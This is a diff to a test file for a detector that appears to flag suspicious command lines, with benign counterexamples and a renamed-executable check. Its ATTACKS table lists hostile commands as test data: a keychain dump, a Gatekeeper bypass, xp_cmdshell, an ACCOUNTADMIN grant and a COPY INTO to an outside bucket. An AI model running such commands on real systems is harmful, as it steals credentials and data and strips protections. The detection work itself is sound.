@@ -67,6 +67,11 @@ const ATTACKS: readonly (readonly [name: string, command: string])[] = [
   ['keychain_read', 'security dump-keychain -d login.keychain'],
   ['gatekeeper_bypassed', 'xattr -d com.apple.quarantine /Applications/X.app'],
   ['privacy_reset', 'tccutil reset All'],
+  ['shell_from_database', "EXEC xp_cmdshell 'whoami'"],
+  ['administrator_of_database', 'GRANT ROLE ACCOUNTADMIN TO USER eve'],
+  ['data_to_elsewhere', "COPY INTO 's3://a.example/x' FROM customers"],
+  ['database_unguarded', 'ALTER ACCOUNT UNSET NETWORK_POLICY'],
+  ['account_in_database', 'CREATE USER eve PASSWORD = x'],
   ['agent_loaded', 'launchctl load /Users/ada/Library/LaunchAgents/x.plist'],
 ]; // prettier-ignore
 
@@ -106,6 +111,9 @@ describe('command lines', () => {
     'osascript -e display notification "Backup is done"',
     'launchctl list',
     'bash -c "ls /dev"',
+    'SELECT * FROM users WHERE id = 7',
+    'GRANT SELECT ON orders TO ROLE reader',
+    'COPY INTO orders FROM @stage/orders.csv',
   ])('that administrators use every day say nothing: %s', (command) => {
     expect(shown(command)).toEqual([]);
   });
@@ -143,6 +151,18 @@ describe('command lines', () => {
       kinds({ description: text }),
       kinds({ ruleName: text, title: text }),
     ]).toEqual([1, 1, 1, 0, 0]);
+  });
+});
+
+describe('a program under another name', () => {
+  it.each([
+    ['wscript.exe', 'C:\\x\\update.exe', 1],
+    ['wscript.exe', 'C:\\Windows\\System32\\wscript.exe', 0],
+    ['PsExec.exe', 'C:\\x\\PsExec64.exe', 0],
+    ['Setup.exe', 'C:\\x\\vendor-setup-1.2.exe', 0],
+  ])('%s as %s', (made, executable, found) => {
+    const seen = new Seen({ OriginalFileName: made }, { process: { executable } });
+    expect(commandFacts(seen)).toHaveLength(found);
   });
 });
 
